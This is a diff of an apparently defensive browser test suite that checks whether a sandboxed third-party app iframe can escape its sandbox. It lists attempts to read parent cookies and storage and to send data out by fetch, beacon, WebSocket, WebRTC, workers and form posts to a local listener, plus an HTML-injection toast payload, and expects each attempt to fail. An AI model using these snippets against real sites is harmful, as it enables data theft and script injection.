@@ -1,83 +1,18 @@
-import type { BrowserContext, Frame, Page } from "playwright-core";
 import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
-import { installApp, type TestApp } from "../../testkit/apps.ts";
-import { type AttackersListener, openAttackersListener } from "../../testkit/attackers-listener.ts";
-import { sharedBrowser } from "../../testkit/browser.ts";
-import { signIn, TestDashboard } from "../../testkit/dashboard.ts";
+import { installApp } from "../../testkit/apps.ts";
+import { HostileApps } from "../../testkit/hostile-apps.ts";
 import { needs } from "../../testkit/needs.ts";
-import { TestPerson } from "../../testkit/person.ts";
-
-/** Long enough for whatever leaves at once; the last attempt of each attack is awaited before. */
-const SETTLE_MS = 300;
-const WAIT_MS = 60_000;
 
 describe.runIf(needs("chromium"))("a hostile app", () => {
-  let dashboard: TestDashboard;
-  let listener: AttackersListener;
-  let person: TestPerson;
-  let context: BrowserContext | undefined;
-  let made = 0;
-
+  let apps: HostileApps;
   beforeAll(async () => {
-    dashboard = await TestDashboard.start();
-    listener = await openAttackersListener();
-    person = await TestPerson.register(dashboard.api);
+    apps = await HostileApps.start();
   });
-  afterEach(async () => {
-    await context?.close();
-    context = undefined;
-  });
-  afterAll(async () => {
-    await dashboard.close();
-    await listener.close();
-  });
-
-  /** Publishes a script as an app, installs it and opens its page. */
-  async function run(
-    script: string,
-    app: TestApp = {},
-  ): Promise<{ page: Page; frame: () => Frame | undefined }> {
-    made += 1;
-    const appId = await installApp(person, { id: `hostile-${made}`, script, ...app });
-    context = await (await sharedBrowser()).newContext();
-    const page = await context.newPage();
-    page.setDefaultTimeout(WAIT_MS);
-    await page.goto(dashboard.address(`/apps/${appId}/pages/panel`));
-    await signIn(page, person.email);
-    const frame = (): Frame | undefined => page.frames().find((one) => one !== page.mainFrame());
-    return { page, frame };
-  }
-
-  /** Runs attacks, each an expression that is awaited; gives what each came to. */
-  async function attack(attacks: Readonly<Record<string, string>>): Promise<Record<string, string>> {
-    const tries = Object.entries(attacks).map(
-      ([name, code]) => `attempt(${JSON.stringify(name)}, async () => { ${code} })`,
-    );
-    const { page, frame } = await run(
-      `const URL_ = ${JSON.stringify(listener.url)}; const out = {};
-       const late = () => new Promise((done) => setTimeout(done, 1000, "no answer"));
-       const attempt = async (name, code) => {
-         try { out[name] = String(await Promise.race([code(), late()])); }
-         catch (error) { out[name] = "threw " + error.name; }
-       };
-       await Promise.all([${tries.join(",\n").replaceAll("@@", listener.url)}]);
-       const said = document.createElement("pre"); said.id = "said"; said.textContent = JSON.stringify(out);
-       document.getElementById("root").append(said);`,
-    );
-    const said = page.frameLocator("iframe").locator("#said");
-    await said.waitFor({ state: "attached" });
-    const results: Record<string, string> = JSON.parse((await said.textContent()) ?? "{}");
-    await page.waitForTimeout(SETTLE_MS);
-    expect(frame()).toBeDefined();
-    return results;
-  }
-
-  /** A browser opens a connection to where a frame wants to go before it asks its policies; nothing is said on it. */
-  const saidSince = (before: number): string[] =>
-    listener.heard.slice(before).filter((one) => one !== "a connection");
+  afterEach(() => apps.leave());
+  afterAll(() => apps.close());
 
   test("reaches nothing of the dashboard: no document, no cookies, no storage, no credentials", async () => {
-    const results = await attack({
+    const results = await apps.attack({
       parent: "return parent.document.title",
       top: "return top.location.href",
       storage: "return parent.localStorage.length",
@@ -98,16 +33,16 @@ describe.runIf(needs("chromium"))("a hostile app", () => {
       platform: "false",
       frozen: "threw TypeError",
     });
-    expect(results.base).not.toContain(dashboard.address(""));
+    expect(results.base).not.toContain(apps.dashboard.address(""));
   });
 
   test("tells nobody anything: no request, socket, image, font, frame, worker or datagram leaves", async () => {
-    const before = listener.heard.length;
+    const before = apps.listener.heard.length;
     const insert = (
       html: string,
     ): string => `const at = document.createElement("div"); document.body.append(at);
       at.innerHTML = \`${html}\`; await new Promise((done) => setTimeout(done, 50));`;
-    await attack({
+    await apps.attack({
       fetch: "await fetch(URL_ + '/fetch', { mode: 'no-cors' })",
       xhr: "const x = new XMLHttpRequest(); x.open('GET', URL_ + '/xhr'); x.send(); await new Promise((d) => setTimeout(d, 50))",
       beacon: "navigator.sendBeacon(URL_ + '/beacon', 'x')",
@@ -127,15 +62,15 @@ describe.runIf(needs("chromium"))("a hostile app", () => {
         "new Worker(URL.createObjectURL(new Blob([`fetch('@@/worker')`]))); await new Promise((d) => setTimeout(d, 50))",
       module: "await import(URL_ + '/import.js')",
       webrtc: "new RTCPeerConnection()",
-      transport: `await new WebTransport('https://127.0.0.1:${listener.httpPort}/').ready`,
+      transport: `await new WebTransport('https://127.0.0.1:${apps.listener.httpPort}/').ready`,
       evaluated: "return eval('1')",
     });
-    expect(saidSince(before)).toEqual([]);
+    expect(apps.saidSince(before)).toEqual([]);
   });
 
   test("makes no document of its own, in which WebRTC would be there again", async () => {
-    const rtc = `stun:127.0.0.1:${listener.udpPort}`;
-    const results = await attack({
+    const rtc = `stun:127.0.0.1:${apps.listener.udpPort}`;
+    const results = await apps.attack({
       srcdoc:
         "const f = document.createElement('iframe'); f.srcdoc = 'x'; document.body.append(f); return 'made'",
       attribute: "const f = document.createElement('iframe'); f.setAttribute('srcdoc', 'x'); return 'made'",
@@ -150,7 +85,7 @@ describe.runIf(needs("chromium"))("a hostile app", () => {
       if (name !== "prototype") expect(`${name}: ${result}`).toMatch(/threw/);
     }
     expect(results.prototype).toBe("");
-    expect(listener.heard.filter((one) => one.startsWith("udp"))).toEqual([]);
+    expect(apps.listener.heard.filter((one) => one.startsWith("udp"))).toEqual([]);
   });
 
   test.each([
@@ -165,23 +100,23 @@ describe.runIf(needs("chromium"))("a hostile app", () => {
       "const f = document.createElement('form'); f.method = 'post'; f.action = TO; document.body.append(f); f.submit()",
     ],
   ])("that leaves its page by %s is stopped, and the page it wanted hears nothing", async (_, code) => {
-    const before = listener.heard.length;
-    const { page } = await run(`const TO = ${JSON.stringify(`${listener.url}/leaving`)}; ${code}`);
+    const before = apps.listener.heard.length;
+    const { page } = await apps.run(`const TO = ${JSON.stringify(`${apps.listener.url}/leaving`)}; ${code}`);
     await page.getByText("tried to leave its page").waitFor();
     expect(await page.locator("iframe").count()).toBe(0);
-    expect(saidSince(before)).toEqual([]);
+    expect(apps.saidSince(before)).toEqual([]);
     // The dashboard goes on.
     await page.getByRole("button", { name: "Reload" }).waitFor();
   });
 
   test("that loads its own frame again gets no second port", async () => {
-    const { page } = await run("location.reload()");
+    const { page } = await apps.run("location.reload()");
     await page.getByText("tried to leave its page").waitFor();
     expect(await page.locator("iframe").count()).toBe(0);
   });
 
   test("gets no second port by a hello of its own, nor one of another's", async () => {
-    const results = await attack({
+    const results = await apps.attack({
       again: `return await new Promise((done) => {
         addEventListener("message", (event) => done("a port: " + event.ports.length));
         for (const nonce of ["", "x"]) parent.postMessage({ kind: "parley-hello", nonce }, "*");
@@ -193,7 +128,7 @@ describe.runIf(needs("chromium"))("a hostile app", () => {
   });
 
   test("that takes the port from the runtime and floods it is stopped, and the page goes on", async () => {
-    const { page } = await run(
+    const { page } = await apps.run(
       `const post = MessagePort.prototype.postMessage; let port;
        MessagePort.prototype.postMessage = function (...sent) { port = this; return post.apply(this, sent); };
        window.platform.ui.toast("x").catch(() => 0);
@@ -205,14 +140,14 @@ describe.runIf(needs("chromium"))("a hostile app", () => {
   });
 
   test("has its words shown as text, with its name, and its errors beside it", async () => {
-    const { page } = await run(
+    const { page } = await apps.run(
       `document.getElementById("root").textContent = "here";
        window.platform.ui.toast("<img src=x onerror=alert(1)>Sign in again");
        setTimeout(() => { throw new Error("it broke"); }, 0);`,
     );
-    const toast = page.locator(".app-toast");
+    const toast = page.locator(".toast");
     await toast.waitFor();
-    expect(await toast.textContent()).toContain(`The app hostile-${made}`);
+    expect(await toast.textContent()).toContain(`The app hostile-${apps.made}`);
     expect(await toast.textContent()).toContain("<img src=x");
     expect(await toast.locator("img").count()).toBe(0);
     await page.getByText("has an error: it broke").waitFor();
@@ -220,18 +155,18 @@ describe.runIf(needs("chromium"))("a hostile app", () => {
   });
 
   test("is as high as it is, and not endless", async () => {
-    const { page } = await run(
+    const { page } = await apps.run(
       "document.getElementById('root').style.height = '1000000px'; document.getElementById('root').append('x')",
     );
     await expect.poll(async () => (await page.locator("iframe").boundingBox())?.height).toBe(4_000);
   });
 
   test("is not opened by itself, and its files do nothing when they are", async () => {
-    const appId = await installApp(person, {
+    const appId = await installApp(apps.person, {
       id: "alone",
       files: { "a.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>" },
     });
-    const me = await person.call("GET", "/api/app-frames");
+    const me = await apps.person.call("GET", "/api/apps/frames");
     const { origin } = me.body.data as { origin: string };
     const asked = (path: string, headers: Record<string, string> = {}) =>
       fetch(`${origin}/_apps/${appId}/${path}`, { headers });
